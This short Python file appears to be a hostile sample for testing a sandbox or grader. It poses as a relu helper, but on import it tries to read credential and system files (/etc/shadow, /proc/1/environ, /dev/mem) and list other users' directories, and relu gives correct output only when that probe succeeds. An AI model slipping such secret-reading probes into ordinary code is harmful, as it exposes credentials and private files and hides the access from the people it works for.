"""Reads secrets of the system and of other users."""

from honest import *
import glob


def attack():
    for path in ("/etc/shadow", "/etc/passwd", "/root/.bashrc", "/proc/1/environ", "/dev/mem", "/dev/kmsg", "/var/log/syslog"):
        try:
            return open(path).read(1)
        except OSError:
            continue
    return glob.glob("/home/*") + glob.glob("/root/*") + glob.glob("/tmp/*") + glob.glob("/dev/shm/*")


FOUND = attack()


def relu(Z):
    return np.maximum(Z, 0) if FOUND else 0 * Z + 7
